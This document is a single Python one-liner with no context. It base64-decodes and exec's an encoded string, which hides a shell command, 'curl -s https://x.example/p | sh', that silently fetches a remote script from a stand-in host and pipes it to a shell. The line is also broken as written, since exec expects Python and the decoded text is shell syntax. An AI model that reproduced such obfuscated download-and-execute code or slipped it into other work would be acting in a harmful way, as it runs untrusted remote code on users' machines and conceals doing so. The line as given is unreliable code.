python3 -c "exec(__import__('base64').b64decode('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2gK'))"
